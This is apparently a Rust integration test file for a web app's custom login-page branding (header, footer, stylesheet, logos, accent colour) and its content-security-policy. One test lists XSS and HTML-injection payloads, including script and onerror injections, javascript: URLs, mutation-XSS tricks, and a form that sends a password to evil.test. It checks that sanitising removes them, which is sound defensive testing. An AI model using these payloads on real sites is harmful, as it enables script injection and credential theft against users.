//! An app's own look: header, footer, stylesheet, logo and colour.

use rstest::rstest;
use serde_json::json;

use super::visit::set_app;
use crate::support::{Answer, Engine, TestServer};

/// One directive of the page's policy.
fn policy(page: &Answer, directive: &str) -> String {
    let policy = page.header("content-security-policy");
    let found = policy.split(';').map(str::trim).find(|part| part.split(' ').next() == Some(directive));
    found.unwrap_or_default().to_owned()
}

#[rstest]
#[case::sqlite(Engine::Sqlite)]
#[case::postgres(Engine::Postgres)]
#[tokio::test]
async fn what_an_app_brings_is_shown_and_may_be_fetched(#[case] engine: Engine) {
    let server = TestServer::start(engine).await;
    let plain = server.browser().get("/login").await;
    assert!(!policy(&plain, "style-src").contains("http") && !policy(&plain, "img-src").contains("http"));
    let look = json!({
        "header": "<h2 class=\"big\">Acme <img src=\"https://img.example/a.png\" alt=\"Acme\"></h2>",
        "footer": "<p>By <a href=\"https://acme.example/legal\">Acme</a></p>",
        "external_css": "https://cdn.example:8443/a.css?v=1", "logo_url": "https://logo.example/l.svg",
        "accent_color": "#C2185B",
    });
    set_app(&server, look).await;
    let page = server.browser().get("/login").await;
    for shown in [
        "<h2 class=\"big\">Acme <img src=\"https://img.example/a.png\" alt=\"Acme\"></h2>",
        "href=\"https://acme.example/legal\"",
        "<link rel=\"stylesheet\" href=\"https:&#x2f;&#x2f;cdn.example:8443&#x2f;a.css?v=1\">",
        "--accent:#c2185b",
    ] {
        assert!(page.text.contains(shown), "{shown}: {}", page.text);
    }
    assert!(policy(&page, "style-src").ends_with(" https://cdn.example:8443"), "{}", policy(&page, "style-src"));
    assert_eq!(policy(&page, "font-src"), "font-src https://cdn.example:8443");
    for source in ["https://cdn.example:8443", "https://logo.example", "https:"] {
        assert!(policy(&page, "img-src").split(' ').any(|known| known == source), "{}", policy(&page, "img-src"));
    }
    assert!(!policy(&page, "script-src").contains("http"), "never scripts");

    set_app(&server, json!({"header": null, "footer": ""})).await;
    let page = server.browser().get("/login").await;
    assert!(
        page.text.contains("<img class=\"logo\" src=\"https:&#x2f;&#x2f;logo.example&#x2f;l.svg\" alt=\"\""),
        "{}",
        page.text
    );
    assert!(!policy(&page, "img-src").split(' ').any(|known| known == "https:"));
}

#[rstest]
#[case::sqlite(Engine::Sqlite)]
#[case::postgres(Engine::Postgres)]
#[tokio::test]
async fn pages_show_the_apps_own_icon_and_its_logo_for_dark_pages(#[case] engine: Engine) {
    let server = TestServer::start(engine).await;
    let page = server.browser().get("/login").await;
    assert!(page.text.contains("<link rel=\"icon\" type=\"image/svg+xml\""), "{}", page.text);
    let look = json!({
        "logo_url": "https://logo.example/l.svg", "logo_dark_url": "https://dark.example/d.svg",
        "favicon_url": "https://icon.example/f.png",
    });
    set_app(&server, look.clone()).await;
    let page = server.browser().get("/login").await;
    for shown in [
        "<link rel=\"icon\" href=\"https:&#x2f;&#x2f;icon.example&#x2f;f.png\">",
        "<source srcset=\"https:&#x2f;&#x2f;dark.example&#x2f;d.svg\" media=\"(prefers-color-scheme: dark)\">",
        "<img class=\"logo\" src=\"https:&#x2f;&#x2f;logo.example&#x2f;l.svg\"",
    ] {
        assert!(page.text.contains(shown), "{shown}: {}", page.text);
    }
    for source in ["https://logo.example", "https://dark.example", "https://icon.example"] {
        assert!(policy(&page, "img-src").split(' ').any(|known| known == source), "{}", policy(&page, "img-src"));
    }
    let app = server.get(&format!("login_policies/{}", server.made.app.id)).await.json(200);
    for field in ["logo_url", "logo_dark_url", "favicon_url"] {
        assert_eq!(app[field], look[field], "{field}");
    }
}

/// OWASP's cheat sheet has them all, and more; what is left may be odd text, but does nothing.
#[rstest]
#[case::sqlite(Engine::Sqlite)]
#[case::postgres(Engine::Postgres)]
#[tokio::test]
async fn an_apps_html_runs_sends_and_asks_nothing(#[case] engine: Engine) {
    let server = TestServer::start(engine).await;
    let without = server.browser().get("/login").await;
    let count = |page: &Answer, what: &str| page.text.to_lowercase().matches(what).count();
    for html in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<form action=https://evil.test><input name=password></form>",
        "</header></div><form action=https://evil.test method=post>",
        "<iframe src=https://evil.test></iframe>",
        "<object data=x></object><embed src=x>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.test\">",
        "<base href=https://evil.test>",
        "<style>body{background:url(https://evil.test)}</style>",
        "<p style=\"position:fixed;inset:0\">x</p>",
        "<link rel=stylesheet href=https://evil.test/a.css>",
        "<svg onload=alert(1)><animate onbegin=alert(1)>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<button formaction=https://evil.test>x</button>",
        "<label for=password>x</label><p id=password>x</p>",
        "<textarea>",
        "<!-- <script> -->",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    ] {
        set_app(&server, json!({"header": html, "footer": html})).await;
        let page = server.browser().get("/login").await;
        assert_eq!(page.status, 200, "{html}");
        for what in [
            "<script",
            "<form",
            "<input",
            "<iframe",
            "<object",
            "<embed",
            "<meta",
            "<base",
            "<style",
            "<svg",
            "<button",
            "<label",
            "<textarea",
            "onerror=",
            "onload=",
            "javascript:",
            "formaction",
            "style=",
            "<link",
            " id=\"password\"",
        ] {
            assert_eq!(count(&page, what), count(&without, what), "{html}: {what}: {}", page.text);
        }
    }
}

#[rstest]
#[case::sqlite(Engine::Sqlite)]
#[case::postgres(Engine::Postgres)]
#[tokio::test]
async fn colours_and_logos_are_checked(#[case] engine: Engine) {
    let server = TestServer::start(engine).await;
    let path = format!("login_policies/{}", server.made.app.id);
    for wrong in ["red", "#fff", "#12345", "#1234567", "#12345g", "#ffffff}", "url(x)"] {
        let answer = server.put(&path, json!({"login_policy": {"accent_color": wrong}})).await;
        assert!(!answer.refusals("accent_color").is_empty(), "{wrong}: {}", answer.text);
    }
    for field in ["logo_url", "logo_dark_url", "favicon_url"] {
        let answer = server.put(&path, json!({"login_policy": {field: "javascript:alert(1)"}})).await;
        assert!(!answer.refusals(field).is_empty(), "{}", answer.text);
    }
    let app = server.put(&path, json!({"login_policy": {"accent_color": "#ABCDEF"}})).await.json(200);
    assert_eq!(app["accent_color"], "#abcdef");
    let app = server.put(&path, json!({"login_policy": {"accent_color": null}})).await.json(200);
    assert!(app["accent_color"].is_null());
}
